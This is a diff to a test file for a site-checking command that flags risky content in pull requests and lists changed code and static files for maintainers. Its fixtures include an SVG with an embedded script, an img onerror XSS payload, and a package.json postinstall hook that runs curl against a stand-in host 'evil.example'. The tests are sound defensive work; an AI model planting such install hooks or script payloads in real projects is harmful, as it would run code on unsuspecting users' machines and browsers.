@@ -79,6 +79,10 @@ const EXPECTED = `<!-- roadmap: check --since -->
 - skill pytorch: 2 → 4 pieces of evidence
 - courses done: 0 → 1 of 1
 - weekly paper streak: 0 → 1 week
+
+**Code and static files (a maintainer must read these)**
+
+No code, static or configuration file changed.
 `;
 
 /** The example site committed as `base`, then the pull request's edits. */
@@ -123,6 +127,35 @@ describe('npm run check -- --since REF', {timeout: 120_000}, () => {
     );
   });
 
+  it('lists every code, static and configuration file a pull request changes, for a maintainer to read', async () => {
+    const dir = await writeSite({'package.json': '{}\n', 'static/img/logo.svg': '<svg></svg>\n'});
+    commitAll(dir, 'base');
+    await applyEdits(dir, {
+      'static/img/logo.svg': '<svg><rect/></svg>\n',
+      'static/evil.svg': '<svg>\n<script>alert(1)</script></svg>\n',
+      'src/theme/Footer/index.tsx': 'export default function Footer() { return null; }\n',
+      '.github/workflows/deploy.yml': 'on: push\n',
+      'package.json': '{"scripts": {"postinstall": "curl evil.example"}}\n',
+      'docs/notes/chart.svg': '<svg></svg>\n',
+    });
+    const {code, stdout, stderr} = check('--site', dir, '--since', 'HEAD');
+    expect(code).toBe(1);
+    expect(stderr).toContain('static/evil.svg:2 <script>: a script runs on the site when the file is opened');
+    expect(stdout.slice(stdout.indexOf('**Code and static files'))).toBe(
+      [
+        '**Code and static files (a maintainer must read these)**',
+        '',
+        '- `.github/workflows/deploy.yml` (added)',
+        '- `docs/notes/chart.svg` (added)',
+        '- `package.json` (changed)',
+        '- `src/theme/Footer/index.tsx` (added)',
+        '- `static/evil.svg` (added)',
+        '- `static/img/logo.svg` (changed)',
+        '',
+      ].join('\n'),
+    );
+  });
+
   it('a renamed and edited paper is one rename, and its status change is its only dashboard line', async () => {
     const dir = await writeSite();
     commitAll(dir, 'base');
@@ -161,8 +194,7 @@ describe('npm run check -- --since REF', {timeout: 120_000}, () => {
     await applyEdits(dir, {'docs/notes/page.md': '# Page\n\n<img src=x onerror=alert(1)>\n'});
     const {code, stdout, stderr} = check('--site', dir, '--since', 'base');
     expect(code).toBe(1);
-    const problem =
-      'docs/notes/page.md:3 onerror: an event handler runs code (expected no on… attribute in content, or the file listed in trustedContent.ts, got "onerror=alert(1)")';
+    const problem = `docs/notes/page.md:3 <img onerror>: removed (an event handler runs code; expected no on… attribute in content, or the file listed in trustedContent.ts, got 'onerror="alert(1)"')`;
     expect(stderr).toContain(problem);
     expect(stdout).toContain(
       `✖ \`npm run check\` found 1 problem; fix it and push again:\n\n\`\`\`text\n${problem}\n\`\`\``,
